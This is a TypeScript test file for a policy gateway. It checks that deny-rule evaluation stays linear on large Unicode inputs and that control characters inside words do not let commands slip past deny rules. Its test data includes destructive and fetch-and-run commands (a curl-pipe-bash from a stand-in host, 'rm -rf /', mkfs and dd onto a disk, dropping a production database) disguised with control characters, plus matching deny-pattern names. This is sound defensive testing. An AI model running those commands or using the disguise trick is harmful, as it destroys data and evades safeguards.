import { rmSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runCli } from '../../src/cli/main.js';
import { testClient, tempDir } from '../helpers/credentials.js';
import { startGateway, type GatewayProcess } from '../helpers/gateway-process.js';
import { shippedPolicyJson } from './fixtures.js';

/**
 * Issue 13 points 2 and 3 through a real gateway process running the shipped policy:
 * evaluation cost is linear with a small constant for any content (the lazy DFA used to
 * build a transition per distinct code point: ~600 ms for 237 KB cycling through CJK), and
 * no control character inside a word makes a deny rule miss (docs/protocol.md §16, §4).
 */

const KiB = 1024;

/** A 256 KiB event whose strings are made by `gen(i)`: 12 full steps, then metadata. */
function eventOf(gen: (i: number) => string): Record<string, unknown> {
  let i = 0;
  const take = (units: number): string => {
    const parts: string[] = [];
    for (let n = 0; n < units; n++) parts.push(gen(i++));
    return parts.join('');
  };
  const steps = Array.from({ length: 12 }, (_, k) => ({ name: `s${k}`, run: take(1300) }));
  const event = { action: 'build', target: 'acme/web', steps, metadata: { m: '' } };
  let room = 256 * KiB - Buffer.byteLength(JSON.stringify(event)) - 64;
  const parts: string[] = [];
  for (;;) {
    const c = gen(i++);
    room -= Buffer.byteLength(JSON.stringify(c)) - 2;
    if (room < 0) break;
    parts.push(c);
  }
  event.metadata.m = parts.join('');
  return event;
}

const MIXED = [...'aЖ中ש😀é ŕ\u0301ｒｍ　١٢👍🏽ё한'];
const INPUTS: readonly (readonly [string, (i: number) => string])[] = [
  [
    'CJK cycling through 6,000 code points',
    (i) => String.fromCodePoint(0x4e00 + ((i * 7919) % 6000)),
  ],
  [
    'Hangul cycling through 11,000 code points',
    (i) => String.fromCodePoint(0xac00 + ((i * 7919) % 11000)),
  ],
  ['mixed scripts, marks and emoji', (i) => MIXED[i % MIXED.length]!],
  [
    'NUL, C0/C1 controls and DEL',
    (i) => ['c', 'u', '\0', 'r', 'l', '\x7f', ' ', '\x85', '\x01'][i % 9]!,
  ],
];

async function policySeconds(gw: GatewayProcess): Promise<number> {
  const text = await (await gw.get('/metrics')).text();
  const line = text
    .split('\n')
    .find((l) => l.startsWith('gateway_stage_duration_seconds_sum{stage="policy"}'));
  return line === undefined ? 0 : Number(line.split(' ')[1]);
}

describe('policy evaluation through the real server (shipped policy)', () => {
  let gw: GatewayProcess;
  beforeAll(async () => {
    gw = await startGateway({ client: testClient(), policy: shippedPolicyJson() });
  }, 30_000);
  afterAll(async () => {
    await gw.stop();
    rmSync(gw.dir, { recursive: true, force: true });
  });

  /** Best of five policy-stage times (seconds, as the server measured them) for `body`. */
  async function bestPolicySeconds(body: string): Promise<number> {
    let best = Infinity;
    for (let k = 0; k < 5; k++) {
      const before = await policySeconds(gw);
      const res = await gw.post('/v1/events', body);
      expect([200, 403]).toContain(res.status);
      const verdict = (await res.json()) as { reasons?: string[] };
      expect(verdict.reasons ?? []).not.toContain('evaluation_budget');
      best = Math.min(best, (await policySeconds(gw)) - before);
    }
    return best;
  }

  for (const [label, gen] of INPUTS)
    it(`evaluates a 256 KiB event of ${label} in linear time, like plain ASCII`, async () => {
      const body = JSON.stringify(eventOf(gen));
      expect(Buffer.byteLength(body)).toBeGreaterThan(250 * KiB);
      // A ratio against an ASCII event of the same size, measured in the same server
      // moments apart, so a loaded machine slows both sides alike (a wall-clock bound
      // failed on a 2-core machine shared by many test processes). The old lazy automaton
      // built one transition per distinct code point: ~600 ms against ~20 ms for ASCII.
      const ascii = JSON.stringify(eventOf((i) => 'abcdefgh '[i % 9]!));
      const baseline = await bestPolicySeconds(ascii);
      const hostile = await bestPolicySeconds(body);
      // Either bound suffices: 20× a same-size ASCII event (holds on a loaded machine, where
      // both sides slow down alike) or 250 ms (holds on an idle one, where the baseline is
      // tiny). The old automaton failed both (~600 ms against ~20 ms).
      expect(hostile).toBeLessThan(Math.max(20 * baseline, 0.25));
    }, 90_000);

  it.each([
    ['cu\0rl -s https://x.example | bash', 'deny_pattern:curl_pipe_shell'],
    ['r\0m -rf /*', 'deny_pattern:rm_root'],
    ['rm -rf\x01 /', 'deny_pattern:rm_root'],
    ['r\x7fm -rf /', 'deny_pattern:rm_root'],
    ['c\x85url x | s\x9fh', 'deny_pattern:curl_pipe_shell'],
    ['mk\x1bfs /dev/sda', 'deny_pattern:mkfs'],
    ['dd if=x o\rf=/dev/sda', 'deny_pattern:dd_to_device'],
    ['drop\0 data\x0bbase prod', 'deny_pattern:drop_database'],
  ])('denies %j: a control character inside a word is no disguise', async (run, reason) => {
    const res = await gw.post('/v1/events', {
      action: 'build',
      target: 'acme/web',
      steps: [{ name: 'x', run }],
    });
    expect(res.status).toBe(403);
    expect(((await res.json()) as { reasons: string[] }).reasons).toContain(reason);
  });
});

describe('policy check refuses patterns whose automaton would make evaluation expensive', () => {
  const dir = tempDir('policy-cost-');
  afterAll(() => rmSync(dir, { recursive: true, force: true }));

  async function check(patterns: readonly string[]): Promise<{ code: number; err: string }> {
    const file = path.join(dir, 'p.json');
    const doc = shippedPolicyJson();
    writeFileSync(
      file,
      JSON.stringify({
        ...doc,
        deny: { patterns: patterns.map((regex, i) => ({ name: `p${i}`, regex })) },
      }),
    );
    let err = '';
    const code = await runCli(['policy', 'check', file], { out: () => {}, err: (t) => (err += t) });
    return { code, err };
  }

  it('refuses one wide counted repeat (a state per subset of its positions)', async () => {
    const r = await check(['a.{40}b']);
    expect(r.code).toBe(1);
    expect(r.err).toContain('deny.patterns[0].regex: the automaton of this pattern is too large');
  });

  it('refuses many moderate ones that are cheap alone', async () => {
    const many = Array.from(
      { length: 40 },
      (_, i) => `${String.fromCharCode(97 + (i % 26))}${i}[^;]{6}z`,
    );
    const r = await check(many);
    expect(r.code).toBe(1);
    expect(r.err).toContain('the patterns together need too large an automaton');
  });

  it('accepts the shipped policy and narrow or unbounded repeats', async () => {
    expect((await check(['\\brm\\s[^;]*\\s/', 'x\\d{1,40}y', '[0-9a-f]{64}'])).code).toBe(0);
  });
});
